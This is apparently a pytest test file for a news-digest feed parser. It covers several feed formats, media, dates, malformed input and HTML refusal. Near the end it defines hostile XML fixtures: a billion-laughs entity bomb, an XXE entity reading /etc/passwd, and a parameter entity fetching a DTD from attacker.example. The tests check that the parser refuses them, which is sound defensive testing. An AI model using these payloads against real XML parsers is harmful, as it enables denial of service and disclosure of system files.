"""parse: every format, the sample feeds, ill-formed input, hostile XML, dates and media."""

from __future__ import annotations

import time
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import fastfeedparser
import pytest

from digest.collect.parse import parse
from digest.errors import ParseError

from .conftest import SAMPLE_FEEDS

URL = "https://news.example/feed"

RSS2 = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Kyiv Ledger</title><link>https://news.example/</link><ttl>45</ttl>
<item><title>Air raid alert in Kyiv</title><link>https://news.example/a</link>
<guid isPermaLink="false">a-1</guid><pubDate>Wed, 25 Nov 2026 07:30:00 +0200</pubDate>
<dc:creator>Olena Petrenko</dc:creator><category>War</category><category>Kyiv</category>
<description>&lt;p&gt;Teaser&lt;/p&gt;</description>
<content:encoded><![CDATA[<p>Full text</p>]]></content:encoded>
<media:content url="https://news.example/photo.jpg" medium="image" type="image/jpeg">
<media:description>Smoke over the city</media:description></media:content></item>
</channel></rss>"""

RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://news.example/"><title>Wire</title><link>https://news.example/</link></channel>
<item rdf:about="https://news.example/a"><title>Air raid alert in Kyiv</title><link>https://news.example/a</link>
<description>Teaser</description><dc:date>2026-11-25T05:30:00Z</dc:date>
<dc:creator>Olena Petrenko</dc:creator>
<dc:subject>War</dc:subject></item>
</rdf:RDF>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Dispatch</title>
<link rel="alternate" href="https://news.example/"/><id>urn:x</id><updated>2026-11-25T05:30:00Z</updated>
<entry><id>tag:news.example,2026:a-1</id><title>Air raid alert in Kyiv</title>
<link rel="alternate" href="https://news.example/a"/><published>2026-11-25T07:30:00+02:00</published>
<updated>2026-11-25T08:00:00Z</updated><author><name>Olena Petrenko</name></author><category term="War"/>
<summary type="html">&lt;p&gt;Teaser&lt;/p&gt;</summary>
<content type="html">&lt;figure&gt;&lt;img src="https://news.example/photo.jpg"&gt;
&lt;figcaption&gt;Smoke over the city&lt;/figcaption&gt;&lt;/figure&gt;&lt;p&gt;Full text&lt;/p&gt;</content>
</entry></feed>"""

JSON_FEED = """{"version": "https://jsonfeed.org/version/1.1", "title": "Signal",
 "home_page_url": "https://news.example/",
 "items": [{"id": "a-1", "url": "https://news.example/a", "title": "Air raid alert in Kyiv",
  "summary": "Teaser", "content_html": "<p>Full text 🇺🇦</p>",
  "date_published": "2026-11-25T07:30:00+02:00", "image": "https://news.example/photo.jpg",
  "authors": [{"name": "Olena Petrenko"}], "tags": ["War"],
  "attachments": [{"url": "https://news.example/a.mp4", "mime_type": "video/mp4"}]}]}""".encode()

PUBLISHED = datetime(2026, 11, 25, 5, 30, tzinfo=UTC)


@pytest.mark.parametrize("body", [RSS2, RDF, ATOM, JSON_FEED], ids=["rss2", "rdf", "atom", "jsonfeed"])
def test_each_format_yields_the_entry_with_its_fields(body: bytes) -> None:
    feed = parse(body, URL)
    [entry] = feed.entries
    assert entry.title == "Air raid alert in Kyiv"
    assert entry.link == "https://news.example/a"
    assert entry.author == "Olena Petrenko"
    assert entry.published == PUBLISHED
    assert entry.categories[0] == "War"
    assert "Teaser" in (entry.summary_html or "")
    assert feed.link == "https://news.example/"


@pytest.mark.parametrize(
    ("body", "image", "caption"),
    [
        (RSS2, "https://news.example/photo.jpg", "Smoke over the city"),
        (ATOM, "https://news.example/photo.jpg", "Smoke over the city"),  # <img> and <figcaption>
        (JSON_FEED, "https://news.example/photo.jpg", None),
        (RDF, None, None),
    ],
    ids=["media-content", "img-figcaption", "json-image", "none"],
)
def test_it_finds_the_entry_image_and_caption(body: bytes, image: str | None, caption: str | None) -> None:
    entry = parse(body, URL).entries[0]
    assert (entry.image_url, entry.image_caption) == (image, caption)


def test_rss_ttl_and_content_are_kept_apart_from_the_summary() -> None:
    feed = parse(RSS2, URL)
    assert feed.ttl_minutes == 45
    assert feed.entries[0].content_html == "<p>Full text</p>"
    assert feed.entries[0].guid == "a-1"


@pytest.mark.parametrize(
    ("item", "media_type"),
    [
        ('<enclosure url="https://n.example/v.mp4" type="video/mp4" length="1"/>', "video"),
        ('<media:content url="https://n.example/v" medium="video"/>', "video"),
        ("<link>https://www.youtube.com/watch?v=abc</link>", "video"),
        ("<link>https://youtu.be/abc</link>", "video"),
        ("<link>https://vimeo.com/123</link>", "video"),
        ('<enclosure url="https://n.example/a.mp3" type="audio/mpeg" length="1"/>', None),
        ("<link>https://news.example/youtube.com</link>", None),
    ],
)
def test_video_entries_are_marked(item: str, media_type: str | None) -> None:
    body = (
        '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>T</title>'
        f"<item><title>Clip</title>{item}</item></channel></rss>"
    ).encode()
    assert parse(body, URL).entries[0].media_type == media_type


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        ("Wed, 25 Nov 2026 07:30:00 +0200", PUBLISHED),
        ("Wed, 25 Nov 2026 05:30:00 GMT", PUBLISHED),
        ("not a date", None),
        ("", None),
        ("Wed, 45 Nov 2026 99:99:00 GMT", None),
    ],
)
def test_dates_are_aware_utc_or_none(date: str, expected: datetime | None) -> None:
    body = (
        f'<rss version="2.0"><channel><item><title>x</title><pubDate>{date}</pubDate></item></channel></rss>'
    )
    published = parse(body.encode(), URL).entries[0].published
    assert published == expected
    assert published is None or published.tzinfo is UTC


@pytest.mark.parametrize(
    ("name", "count", "formats"),
    [
        ("kyiv-ledger.rss.xml", 15, "rss2"),
        ("dnipro-dispatch.atom.xml", 10, "atom"),
        ("black-sea-wire.rdf.xml", 15, "rdf"),
        ("lviv-signal.json", 11, "json"),
        ("frontline-tv.rss.xml", 10, "rss2"),
    ],
)
def test_the_sample_feeds_parse_completely(name: str, count: int, formats: str) -> None:
    path = SAMPLE_FEEDS / name
    assert path.stat().st_size < 25 * 1024
    feed = parse(path.read_bytes(), str(path))
    assert len(feed.entries) == count
    assert all(e.title and e.link and e.published for e in feed.entries)
    assert len({e.guid or e.link for e in feed.entries}) == count


def test_sample_feeds_carry_photos_captions_and_videos() -> None:
    ledger = parse((SAMPLE_FEEDS / "kyiv-ledger.rss.xml").read_bytes(), "ledger").entries
    assert sum(1 for e in ledger if e.image_url and e.image_caption) >= 6
    video = parse((SAMPLE_FEEDS / "frontline-tv.rss.xml").read_bytes(), "tv").entries
    assert all(e.media_type == "video" for e in video)


ILL_FORMED = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Broken & proud</title>
<item><title>First & only</title><link>https://news.example/1?a=1&b=2</link><description>Un<b>closed</description></item>
<item><title>Second</title><link>https://news.example/2</link>
</channel>"""


def test_an_ill_formed_feed_still_yields_its_items() -> None:
    entries = parse(ILL_FORMED, URL).entries
    assert [e.title for e in entries][:2] == ["First & only", "Second"]


def test_the_lenient_parser_takes_over_when_the_fast_one_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(_: bytes) -> None:
        raise ValueError("boom")

    monkeypatch.setattr(fastfeedparser, "parse", broken)
    feed = parse(RSS2, URL)
    assert [e.title for e in feed.entries] == ["Air raid alert in Kyiv"]
    assert feed.entries[0].published == PUBLISHED
    assert feed.ttl_minutes == 45


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>", None),
        (b"<html><body>Welcome</body></html>", "text/html; charset=utf-8"),
    ],
)
def test_an_html_page_is_refused(body: bytes, content_type: str | None) -> None:
    with pytest.raises(ParseError, match="not a feed: got an HTML page"):
        parse(body, URL, content_type)


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (b"", "empty body"),
        (b"   \n", "empty body"),
        (b"{not json", "invalid JSON"),
        (b'{"a": 1}', "items"),
        (b"hello world", "not a feed"),
    ],
)
def test_bodies_that_are_no_feed_raise_parse_error(body: bytes, problem: str) -> None:
    with pytest.raises(ParseError, match=problem):
        parse(body, URL)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&secret;</title></item></channel></rss>"""

PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>x</title></item></channel></rss>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, PARAMETER], ids=["billion-laughs", "xxe", "parameter"])
def test_hostile_entity_declarations_are_refused(body: bytes) -> None:
    with pytest.raises(ParseError, match="refused"):
        parse(body, URL)


def test_the_parsers_themselves_do_not_expand_an_entity_bomb(monkeypatch: pytest.MonkeyPatch) -> None:
    # Defence in depth: with our check out of the way, the parse stays small and quick.
    monkeypatch.setattr("digest.collect.parse._refuse_entity_tricks", lambda body, url: None)
    tracemalloc.start()
    started = time.monotonic()
    try:
        feed = parse(BILLION_LAUGHS, URL)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 5
    assert peak < 50 * 1024 * 1024
    assert all(len(e.title or "") < 10_000 for e in feed.entries)


def test_a_plain_entity_declaration_is_allowed() -> None:
    body = b"""<!DOCTYPE rss [<!ENTITY id "tag:example.com,">]>
<rss version="2.0"><channel><item><guid isPermaLink="false">&id;2026:a</guid>
<title>x</title></item></channel></rss>"""
    assert len(parse(body, URL).entries) == 1


def test_a_feed_without_entries_is_an_empty_feed_not_an_error() -> None:
    feed = parse(b'<rss version="2.0"><channel><title>Quiet</title></channel></rss>', URL)
    assert (feed.title, feed.entries) == ("Quiet", [])


def test_sample_files_are_found_relative_to_the_repo() -> None:
    assert (Path(__file__).resolve().parents[2] / "digest" / "sample" / "feeds.opml").exists()
